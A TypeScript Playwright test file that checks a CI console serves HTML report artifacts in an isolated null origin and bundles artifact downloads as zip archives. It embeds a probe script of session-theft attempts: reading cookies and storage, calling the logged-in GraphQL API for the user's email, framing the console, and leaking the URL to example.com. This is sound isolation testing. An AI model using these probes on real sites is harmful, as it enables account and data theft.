import { buffer } from 'node:stream/consumers';
import type { Page } from 'playwright-core';
import { fromBufferPromise } from 'yauzl';
import { ConsoleWorld, whyNot } from './console-world.js';
import { expect as see } from './expect.js';
import { describeUnless } from '../support/skips.js';

/** What a script may try that is after a session: each try ends with what it got, or fails. */
const tries = `
const ask = { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
  body: JSON.stringify({ query: '{ viewer { user { email } } }' }) };
const frame = document.createElement('iframe');
const tries = {
  cookies: () => document.cookie,
  storage: () => localStorage.length,
  database: () => indexedDB.open('x').onerror === null && 'open',
  session: () => fetch('/graphql', ask).then((reply) => reply.text()),
  rest: () => fetch('/v2/user', { credentials: 'include' }).then((reply) => reply.text()),
  elsewhere: () => fetch('https://example.com/?' + location.href).then((reply) => reply.text()),
  socket: () => new Promise((done, fail) => {
    const socket = new WebSocket(location.origin === 'null' ? new URL('/graphql', location.href) : '/graphql');
    socket.onopen = () => done('open');
    socket.onerror = () => fail(new Error('refused'));
  }),
  parent: () => (window.parent === window ? fail('alone') : window.parent.document.title),
  opener: () => (window.opener === null ? fail('nobody') : window.opener.document.title),
  console: () => new Promise((done, refused) => {
    frame.onload = () => {
      try { done(frame.contentWindow.document.body.innerText); } catch (error) { refused(error); }
    };
    frame.src = '/demo';
    document.body.append(frame);
  }),
  worker: () => navigator.serviceWorker.register('module.js').then(() => 'registered'),
};
const fail = (message) => { throw new Error(message); };
const late = (work) => Promise.race([work, new Promise((_, refused) => setTimeout(refused, 5000, new Error('late')))]);
const said = { origin: self.origin };
for (const [name, attempt] of Object.entries(tries))
  said[name] = await late(Promise.resolve().then(attempt)).then((value) => 'GOT ' + value, () => 'nothing');
`;
/** The script of a report: the same, and what it must be able to do. */
const script = `${tries}
said.beside = await fetch('../data.json').then((reply) => reply.text());
said.styled = getComputedStyle(document.querySelector('h1')).color;
document.querySelector('pre').textContent = JSON.stringify(said);
`;
const pageOfReport = `<!doctype html><html lang="en"><title>Coverage</title><link rel="stylesheet" href="style.css">
<h1>Coverage of everything</h1><a href="deep/">Deeper</a><pre></pre><script type="module" src="module.js"></script>`;
const files = {
  'report/index.html': pageOfReport,
  'report/module.js': script,
  'report/style.css': 'h1 { color: rgb(1, 2, 3) }',
  'report/deep/index.html': '<!doctype html><title>Deep</title><h1>Deeper still</h1><a href="../index.html">Back</a>',
  'data.json': '{"covered":99}',
};
const commands = Object.entries(files).map(
  ([path, text]) => `mkdir -p $(dirname ${path}) && echo ${Buffer.from(text).toString('base64')} | base64 -d > ${path}`,
);
const configuration = JSON.stringify({
  env: { BUILDKITE_SKIP_CHECKOUT: 'true' },
  steps: [
    {
      label: 'Measure',
      command: [...commands, 'buildkite-agent artifact upload "report/**/*;data.json"']
        .join('\n')
        .replaceAll('$', '$$$$'),
    },
  ],
});

/** What opens beside the console when something is clicked. */
async function opened(page: Page, click: () => Promise<void>): Promise<Page> {
  const coming = page.context().waitForEvent('page');
  await click();
  return coming;
}

describeUnless(whyNot(), 'artifacts in the console', () => {
  let world: ConsoleWorld;
  beforeAll(async () => {
    world = await ConsoleWorld.start();
    await world.api('POST', '/pipelines', {
      name: 'Covered',
      repository: 'https://git.example.com/s.git',
      cluster_id: world.demo.cluster_id,
      configuration,
    });
    await world.api('POST', '/pipelines/covered/builds', { commit: 'HEAD', branch: 'main', message: 'Reports' });
    await world.untilPassed('/pipelines/covered/builds/1');
  });
  afterAll(() => world?.close());

  it('opens a report as a page, whose scripts get nothing of the session and all of their own files', async () => {
    const page = await world.page();
    await page.goto('/demo/covered/builds/1?tab=artifacts');
    const report = await opened(page, () => page.getByRole('link', { name: 'Open report report/index.html' }).click());
    await see(report.getByRole('heading', { name: 'Coverage of everything' }));
    const out = report.locator('pre');
    await expect.poll(() => out.textContent(), { timeout: 60_000 }).toContain('styled');
    const nothing = ['cookies', 'storage', 'database', 'session', 'rest', 'elsewhere', 'socket', 'parent', 'opener'];
    expect(JSON.parse((await out.textContent()) ?? '')).toEqual({
      ...Object.fromEntries([...nothing, 'console', 'worker'].map((name) => [name, 'nothing'])),
      origin: 'null',
      beside: '{"covered":99}',
      styled: 'rgb(1, 2, 3)',
    });
    await report.getByRole('link', { name: 'Deeper' }).click();
    await see(report.getByRole('heading', { name: 'Deeper still' }));
    await report.getByRole('link', { name: 'Back' }).click();
    await see(report.getByRole('heading', { name: 'Coverage of everything' }));
    await page.context().close();
  });

  it('downloads all artifacts of the build and of a job as one archive', async () => {
    const page = await world.page();
    const namesIn = async () => {
      const coming = page.waitForEvent('download');
      await page.getByRole('button', { name: 'Download all' }).click();
      const saved = await coming;
      const zip = await fromBufferPromise(await buffer(await saved.createReadStream()));
      const names: string[] = [];
      for await (const { fileName } of zip.eachEntry()) names.push(fileName);
      return [saved.suggestedFilename(), names.sort()];
    };
    const paths = Object.keys(files).sort();
    await page.goto('/demo/covered/builds/1?tab=artifacts');
    expect(await namesIn()).toEqual(['covered-1-artifacts.zip', paths]);
    await page.goto('/demo/covered/builds/1');
    await page.getByRole('link', { name: /Measure/ }).click();
    await page.getByRole('button', { name: 'Artifacts', exact: true }).click();
    expect(await namesIn()).toEqual([expect.stringMatching(/^covered-1-job-[0-9a-f]{12}-artifacts\.zip$/), paths]);
    await page.context().close();
  });

  it('broke no content security policy and threw nothing meanwhile', () => {
    expect(world.complaints).toEqual([]);
  });

  it('is safe from scripts that do get something where they have the origin of the console', async () => {
    const page = await world.page();
    await page.goto('/demo');
    await see(page.getByRole('heading', { level: 1 }));
    const said = await page.evaluate<Record<string, string>>(`(async () => { ${tries}; return said; })()`);
    for (const name of ['cookies', 'storage', 'database', 'session', 'rest', 'socket'])
      expect([name, said[name]]).toEqual([name, expect.stringMatching(/^GOT/)]);
    expect(said['session']).toContain('"email"');
    await page.context().close();
  });
});
